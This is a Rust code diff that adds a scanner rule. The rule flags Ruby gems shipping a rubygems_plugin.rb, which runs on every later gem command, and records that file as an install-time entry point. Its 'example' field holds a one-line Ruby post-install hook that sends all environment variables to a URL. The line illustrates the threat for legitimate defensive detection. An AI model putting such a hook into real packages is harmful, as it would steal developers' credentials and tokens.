@@ -24,6 +24,22 @@ pub static EXTENSION: RuleInfo = RuleInfo {
     attack: Some("T1195.002"),
 };
 
+pub static PLUGIN: RuleInfo = RuleInfo {
+    id: "install/gem-rubygems-plugin",
+    category: Category::InstallTime,
+    severity: Severity::Low,
+    summary: "The gem ships a `rubygems_plugin.rb`, which RubyGems loads by itself on every `gem` command once the gem is installed.",
+    why: "A RubyGems plugin runs without anyone requiring the gem: every later `gem install`, \
+          `gem update` or `bundle` that loads RubyGems runs it, and `Gem.post_install` lets \
+          it act on each gem installed afterwards. Gem tooling uses plugins to add \
+          commands; a malicious gem uses one to run on every developer command.",
+    example: "lib/rubygems_plugin.rb: Gem.post_install { |i| Net::HTTP.post(URI(u), ENV.to_h.to_json) }",
+    attack: Some("T1546"),
+};
+
+/// The file RubyGems loads from each installed gem's require path.
+const PLUGIN_FILE: &str = "lib/rubygems_plugin.rb";
+
 const SPEC_PATH: &str = "metadata.gz!/metadata";
 const DATA_PREFIX: &str = "data.tar.gz!/";
 
@@ -60,7 +76,17 @@ pub(crate) fn gem(ctx: &Ctx) -> Option<Identity> {
         let point = extension_entry(ctx, SPEC_PATH, DATA_PREFIX, &extension);
         id.entry_points.push(point.evidence(data, offset));
     }
+    id.entry_points.extend(plugin_entry(ctx, DATA_PREFIX));
     Some(id)
+}
+
+/// The entry point of a gem's RubyGems plugin, if it ships one under `base`.
+fn plugin_entry(ctx: &Ctx, base: &str) -> Option<EntryPoint> {
+    let path = format!("{base}{PLUGIN_FILE}");
+    ctx.exists(&path).then(|| {
+        let message = format!("{PLUGIN_FILE} is loaded by every `gem` command after install");
+        entry(&PLUGIN, Phase::Install, &path, message).runs(vec![path.clone()])
+    })
 }
 
 /// A gem's source: a folder (or archive) whose root holds a `*.gemspec`.
@@ -90,6 +116,7 @@ pub(crate) fn gemspec(ctx: &Ctx, root: &str) -> Option<Identity> {
         }
         from = at + 1;
     }
+    id.entry_points.extend(plugin_entry(ctx, root));
     Some(id)
 }
 
